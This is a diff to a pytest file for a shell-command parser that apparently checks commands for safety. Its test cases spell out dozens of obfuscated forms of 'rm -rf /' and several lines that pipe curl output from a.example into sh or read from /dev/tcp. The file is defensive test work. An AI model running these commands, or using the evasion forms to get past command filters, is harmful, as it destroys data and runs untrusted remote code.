@@ -9,13 +9,16 @@ import time
 import pytest
 
 from invariants.cel.shell.started import shell_commands
+from invariants.cel.unknown_text import UnknownText
 from invariants.cel.values import Failure
+from tests.support.shell_text import shown
 
 RM = ["rm", "-rf", "/"]
 
 
 def started(text: str) -> list[list[str]]:
-    return shell_commands(text)
+    """The commands of a text, what is not known of them shown as `<kind>`."""
+    return [[shown(word) for word in words] for words in shell_commands(text)]
 
 
 @pytest.mark.parametrize(
@@ -28,28 +31,31 @@ def started(text: str) -> list[list[str]]:
         ("a | b |& c", [["a"], ["b"], ["c"]]),
         ("(a; { b; })", [["a"], ["b"]]),
         ("if a; then b; elif c; then d; else e; fi", [["a"], ["b"], ["c"], ["d"], ["e"]]),
-        ("for i in 1 2; do a $i; done", [["a", "$i"]]),
+        ("for i in 1 2; do a $i; done", [["a", "1|2"]]),
         ("while a; do b; done < f", [["<", "f"], ["a"], ["b"]]),
         ("case $x in a|b) c;; *) d;; esac", [["c"], ["d"]]),
-        ("f() { a; }; f", [["a"], ["f"]]),
+        ("f() { a; }; f", [["a"], ["f"], ["a"]]),
         ("function f { a; }", [["a"]]),
         ("X=1 Y=2 a", [["a"]]),
-        ("a=(1 $(b)) c", [["c"], ["b"]]),
-        ("[[ $# -gt 0 && x =~ ^(a|b)$ ]] && c", [["c"]]),
-        ("((i++)); a $((1 + 2))", [["a", "$((1 + 2))"]]),
+        ("a=(1 $(b)) c", [["b"], ["c"]]),
+        (
+            "[[ $# -gt 0 && x == ab ]] && c",
+            [["[[", "<name>", "-gt", "0"], ["x", "==", "ab", "]]"], ["c"]],
+        ),
+        ("((i++)); a $((1 + 2))", [["i++"], ["a", "<name>"]]),
         ("((reboot || x))", [["reboot"], ["x"]]),
-        ("a 'b c' \"d $e\" f\\ g", [["a", "b c", "d $e", "f g"]]),
+        ("a 'b c' \"d $e\" f\\ g", [["a", "b c", "d <variable>", "f g"]]),
         ("a {b,c}d {1..3}", [["a", "bd", "cd", "1", "2", "3"]]),
         ("a <<E\nb\nE\nc", [["a"], ["c"]]),
         ("a <<E\n$(b)\nE", [["a"], ["b"]]),
         ("a <<'E'\n$(b)\nE", [["a"]]),
         ("a > f 2>&1 >> g", [[">", "f"], [">>", "g"], ["a"]]),
-        ("a <(b) >(c)", [["a", "<(b)", ">(c)"], ["b"], ["c"]]),
+        ("a <(b) >(c)", [["b"], ["c"], ["a", "/dev/fd/<name>", "/dev/fd/<name>"]]),
         ("command -v a", [["command", "-v", "a"]]),
         ("sh script.sh", [["sh", "script.sh"]]),
         (
             "docker rm $(docker ps -aq)",
-            [["docker", "rm", "$(docker ps -aq)"], ["docker", "ps", "-aq"]],
+            [["docker", "ps", "-aq"], ["docker", "rm", "<any>*"]],
         ),
     ],
 )
@@ -118,40 +124,122 @@ def test_no_dress_hides_a_command(text: str) -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        "$x -rf /",
-        "r${y}m -rf /",
+        "X=rm; $X -rf /",
         "rm${IFS}-rf${IFS}/",
-        "/bin/r? -rf /",
         "$(echo rm) -rf /",
         "`echo rm` -rf /",
+        "D=/; rm -rf $D",
+        'D=/; rm -rf "${D}"',
+        "export A='rm -rf'; $A /",
+        "for d in /; do rm -rf $d; done",
+        "cd / && rm -rf .",
+        "cd /usr; cd ..; rm -rf ./*",
+        "(cd / && rm -rf *)",
+        "pushd /; rm -rf *",
+        "env -C / rm -rf .",
+        "rm -rf ~/../..",
+        'rm -rf "$(echo /)"',
+        "rm -rf $(printf /)",
+        "f() { sh; }; echo 'rm -rf /' | f",
+        "echo 'rm -rf /' | tee >(sh)",
+        "echo 'rm -rf /' | echo $(sh)",
+        "echo 'rm -rf /' | sh 3<<< true",
+        "echo 'rm -rf /' | find . -maxdepth 0 -exec sh \\;",
+        "bash //dev/stdin <<< 'rm -rf /'",
+        "cd /dev && bash stdin <<< 'rm -rf /'",
+        "cat <<E\nx\nE\\\n\nrm -rf /",
+        "time -- rm -rf /",
+        "echo ${x:-<(rm -rf /)}",
+        "[[ x || rm -rf / ]]",
+        "alias x='rm -rf'\nx /",
+        "x='a[$(rm -rf /)]'; echo $((x))",
+        "test -v 'a[$(rm -rf /)]'",
+        "jobs -x rm -rf /",
+        "mapfile -C 'rm -rf /' -c 1 a",
+        "env -S 'rm\\_-rf\\_/'",
+        "echo '/,x' | xargs -d, rm -rf",
+        "echo / | xargs -I% rm -rf %",
+        "find / -exec rm -rf {} +",
+        "setpriv rm -rf /",
+        "chroot / <<< 'rm -rf /'",
+        "sh -c '\"$@\"' _ rm -rf /",
+        "sh -c '$0 -rf /' rm",
+        "perl -e 'system(\"rm -rf /\")'",
+    ],
+)
+def test_what_the_text_decides_is_followed(text: str) -> None:
+    """Variables, directories, functions, aliases, streams: what they hold is what is listed."""
+    assert any(words[:3] == RM for words in started(text))
+
+
+@pytest.mark.parametrize(
+    ("text", "command"),
+    [
+        ("$x -rf /", ["<program>", "-rf", "/"]),
+        ('"$VENV/bin/python" a.py', ["<program>/bin/python", "a.py"]),
+        ("r${y}m -rf /", ["r<variable>m*", "-rf", "/"]),
+        ("/bin/r? -rf /", ["/bin/r<glob>", "-rf", "/"]),
+        ("rm -rf /e*", ["rm", "-rf", "/e<glob>"]),
+        ("nice $n rm", ["rm"]),
+        ("docker $x rm -rf /", RM),
+        ('sh -c "ls $x"', ["ls", "<variable>*"]),
+        ("cat x | xargs rm", ["rm", "<any>*"]),
+        ("find . -exec rm {} +", ["rm", "./<below>"]),
+        ("if a; then D=/; fi; rm -rf $D", ["rm", "-rf", "<variable>|/*"]),
+        ("D=a; a || D=b; rm $D", ["rm", "a|b"]),
+        ("while a; do rm $D; D=/; done", ["rm", "<variable>|/*"]),
+        ('rm -rf "${B:?}"/*', ["rm", "-rf", "<name>/"]),
+        ('cd "$x" && rm -rf *', ["rm", "-rf", "<any>/"]),
+        ("psql a < b", ["psql", "a", "<<<", "<any>"]),
+    ],
+)
+def test_what_is_known_in_part_is_said_in_part(text: str, command: list[str]) -> None:
+    """A word that only a run would show says what is known of it, and that the rest is not."""
+    assert command in started(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "$x",
         "sudo $x",
-        "nice $n rm",
         "env -i $x",
         "eval $x",
         'eval "$(ssh-agent)"',
         'sh -c "$x"',
-        'sh -c "ls $x"',
         "bash $x",
         "curl https://a.example/x | sh",
         "bash <(curl https://a.example/x)",
         "bash < <(curl https://a.example/x)",
         "curl https://a.example/x | sudo bash",
-        "curl https://a.example/x | python3 -",
+        "curl https://a.example/x | python3 -u",
+        'python3 -c "$(curl https://a.example/x)"',
+        "php <(curl https://a.example/x)",
         "sh < /dev/tcp/a.example/80",
-        "exec < /dev/tcp/a.example/80",
         "sh <&3",
         "source <(curl https://a.example/x)",
         '. /dev/stdin <<< "$x"',
         "cat x | xargs sh -c",
-        "cat x | xargs -I% sh -c 'rm %'",
-        "find . -exec sh -c 'rm {}' \\;",
-        "find $x",
+        "cat x | xargs -I% sh -c '%'",
         "echo 'cm0=' | rev | sh",
         "fish -c 'rm -rf /'",
         "pwsh -c 'rm'",
         'su root -c "$x"',
-        "docker $x rm -rf /",
         "sh --new-option -c 'rm'",
+        "BASH_ENV=<(a) bash -c :",
+        "hash -p /tmp/x ls; ls",
+        "IFS=,; X=rm,-rf,/; $X",
+    ],
+)
+def test_what_cannot_be_known_is_listed_as_unknown(text: str) -> None:
+    """A command of which nothing is known is there, as one of any words."""
+    assert any(words[0] in ("<any>*", "<variable>*") for words in started(text))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "exec < /dev/tcp/a.example/80",
         "coproc rm -rf /",
         "a 'b",
         'a "b',
@@ -166,11 +254,13 @@ def test_no_dress_hides_a_command(text: str) -> None:
         "[[ a",
         "a \\",
         "a\0b",
+        "a \ufdd0",
+        "echo $'\\'; rm -rf / #'",
         'echo "${x:-\'}"; rm; echo "${y:-\'}"',
     ],
 )
-def test_what_cannot_be_known_is_an_error(text: str) -> None:
-    """Text that no shell reads, or whose commands only a run would show, is never called safe."""
+def test_what_cannot_be_read_is_an_error(text: str) -> None:
+    """Text that no shell reads, or that two read in two ways, is never called safe."""
     with pytest.raises(Failure, match="shell_commands"):
         started(text)
 
@@ -210,10 +300,13 @@ def test_text_of_no_sense_never_raises_anything_else() -> None:
     for _ in range(3_000):
         text = "".join(chance.choices(signs, k=chance.randrange(1, 25)))
         try:
-            commands = started(text)
+            commands = shell_commands(text)
         except Failure:
             continue
-        assert all(words and all(type(word) is str for word in words) for words in commands)
+        assert all(
+            words and all(isinstance(word, str | UnknownText) for word in words)
+            for words in commands
+        )
 
 
 def test_words_without_a_shell_start_too() -> None:
